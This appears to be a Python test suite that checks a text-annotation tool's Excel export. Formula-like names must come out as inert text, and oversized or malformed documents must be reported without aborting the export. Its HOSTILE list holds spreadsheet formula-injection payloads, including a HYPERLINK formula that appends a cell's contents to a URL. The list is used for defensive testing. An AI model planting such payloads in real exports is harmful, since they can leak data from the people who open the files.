"""Hostile names and values never become formulas, and no one stored document blocks an Excel export.

Every file here is the minimal one that showed the problem: imported through the real readers, stored in a real
database, exported to a real workbook and read back (cell types and the sheet XML itself).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from engine.exporting import export
from engine.formats.tables import EXCEL_MAX_COLUMNS, NOT_WRITTEN_SHEET
from engine.importing import import_files
from engine.storage import NewDocument, Repository

ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
HOSTILE = ["=1+1", '=HYPERLINK("http://example.org/?"&C2)', "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _import_and_store(repo: Repository, path) -> None:
    batch = import_files([path], None)
    assert not batch.errors, batch.errors
    for origin in ("human", "model"):
        docs = [d for d in batch.documents if d.origin == origin]
        repo.store_batch([NewDocument(d.title, d.text, d.source, d.entities, metadata=d.metadata,
                                      reviewed=d.reviewed) for d in docs], origin=origin)


def _formula_cells(path) -> list[str]:
    """Cells that a spreadsheet would evaluate: openpyxl's formula type, and any <f> element in the XML."""
    found = [f"{ws.title}!{c.coordinate}" for ws in load_workbook(path) for row in ws.iter_rows() for c in row
             if c.data_type == "f"]
    with zipfile.ZipFile(path) as zf:
        found += [name for name in zf.namelist() if name.startswith("xl/worksheets/")
                  and re.search(rb"<f[ >]", zf.read(name))]
    return found


def _hostile_export(folder: Path) -> Path:
    """The Excel export of a database holding every hostile name as an entity type, metadata key and title."""
    # a type may not start with a space (the reader refuses "\t=1"); a metadata key and a title may
    lines = [{"text": "জ্বর আছে, কাশি নেই", "label": [[0, 4, name if n < 5 else "Symptom"]], name: f"value {n}",
              "title": name} for n, name in enumerate(HOSTILE)]
    path = folder / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n", encoding="utf-8")
    repo = Repository(folder / "db.sqlite3")
    _import_and_store(repo, path)
    out = folder / "out.xlsx"
    summary = export(repo, out)
    repo.close()
    assert summary.documents == len(HOSTILE) and not summary.not_written
    return out


def test_formula_like_types_and_metadata_keys_are_inert_in_every_sheet(tmp_path):
    out = _hostile_export(tmp_path)
    assert _formula_cells(out) == []
    wb = load_workbook(out)
    headers = {ws.title: [c for c in ws[1]] for ws in wb}
    summary_types = [c for c in headers["Summary"] if c.value in HOSTILE]
    metadata_keys = [c for c in headers["Documents"] if str(c.value).replace("_x000D_", "\r") in HOSTILE]
    assert len(summary_types) == 5 and len(metadata_keys) == len(HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in summary_types + metadata_keys)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (.ci/run installs it)")
def test_libreoffice_opens_the_hostile_export_without_a_single_formula(tmp_path):
    out = _hostile_export(tmp_path)
    profile = (tmp_path / "lo-profile").as_uri()  # a private profile: no first-start dialogs, no shared lock
    done = subprocess.run([SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "ods",
                           "--outdir", str(tmp_path / "lo"), str(out)], capture_output=True, text=True, timeout=300)
    converted = tmp_path / "lo" / "out.ods"
    assert converted.is_file(), done.stdout + done.stderr
    with zipfile.ZipFile(converted) as zf:
        content = zf.read("content.xml").decode("utf-8")
    assert "table:formula=" not in content  # LibreOffice's own reading: no cell it would evaluate
    texts = {"".join(p.itertext()) for p in ElementTree.fromstring(content).iter(f"{{{ODF_TEXT}}}p")}
    assert set(HOSTILE[:5]) <= texts  # each hostile name is there, as the text it was


def test_a_row_of_20000_cells_is_exported_with_the_rest_and_named(tmp_path):
    wide = tmp_path / "wide.csv"
    wide.write_text("text," + ",".join(f"c{i}" for i in range(20_000)) + "\n"
                    + "কাশি আছে," + ",".join("x" for _ in range(20_000)) + "\n", encoding="utf-8")
    small = tmp_path / "small.csv"
    small.write_text("text,ward\nজ্বর আছে,৩\n", encoding="utf-8")
    repo = Repository(tmp_path / "db.sqlite3")
    _import_and_store(repo, wide)
    _import_and_store(repo, small)
    out = tmp_path / "out.xlsx"
    summary = export(repo, out)
    assert summary.documents == 2
    [item] = summary.not_written
    assert item.title == "wide.csv row 2" and "column(s) past Excel's 16,384" in item.line()
    assert "wide.csv row 2" in summary.message(out) and NOT_WRITTEN_SHEET in summary.message(out)
    wb = load_workbook(out, read_only=True)
    assert wb.sheetnames[0] == NOT_WRITTEN_SHEET
    rows = list(wb[NOT_WRITTEN_SHEET].iter_rows(values_only=True))
    assert rows[0] == ("document", "title", "sheet", "what was not written")
    assert rows[1][1:3] == ("wide.csv row 2", "Documents") and "past Excel's" in rows[1][3]
    documents = list(wb["Documents"].iter_rows(values_only=True))
    assert len(documents[0]) == EXCEL_MAX_COLUMNS
    assert [r[6] for r in documents[1:]] == ["কাশি আছে", "জ্বর আছে"]


def test_a_nul_in_a_bom_csv_header_does_not_stop_the_export(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes("\ufefftext,id\x00x\nজ্বর আছে,7\n".encode())
    repo = Repository(tmp_path / "db.sqlite3")
    _import_and_store(repo, path)
    out = tmp_path / "out.xlsx"
    summary = export(repo, out)
    assert summary.documents == 1 and not summary.not_written
    ws = load_workbook(out)["Documents"]
    header = [c.value for c in ws[1]]
    assert header[-1] == "id x" and ws.cell(row=2, column=len(header)).value == "7"


def test_values_a_cell_cannot_hold_are_named_not_fatal(tmp_path):
    repo = Repository(tmp_path / "db.sqlite3")
    repo.add_documents([NewDocument("list", "জ্বর আছে", "test", metadata={"codes": ["R50", "R05"], "n": 3}),
                        NewDocument("fine", "কাশি আছে", "test")], origin="model")
    out = tmp_path / "out.xlsx"
    summary = export(repo, out)
    assert summary.documents == 2 and not summary.not_written
    ws = load_workbook(out)["Documents"]
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("codes") + 1).value == "['R50', 'R05']"


def test_the_window_names_the_document_that_could_not_be_written(qtbot, window, tmp_path, monkeypatch):
    from PySide6.QtWidgets import QMessageBox

    wide = tmp_path / "wide.csv"
    wide.write_text("text," + ",".join(f"c{i}" for i in range(17_000)) + "\n"
                    + "কাশি আছে," + ",".join("x" for _ in range(17_000)) + "\n", encoding="utf-8")
    _import_and_store(window.repo, wide)
    warnings = []  # the box is modal: capture its text instead of blocking the test
    monkeypatch.setattr(QMessageBox, "warning", staticmethod(lambda parent, title, text: warnings.append(text)))
    window.export_to(tmp_path / "out.xlsx")
    qtbot.waitUntil(lambda: bool(warnings), timeout=60000)
    assert "Exported 1 documents" in window.statusBar().currentMessage()
    assert "wide.csv row 2" in warnings[0] and "'Not written'" in warnings[0]
    assert load_workbook(tmp_path / "out.xlsx", read_only=True).sheetnames[0] == NOT_WRITTEN_SHEET
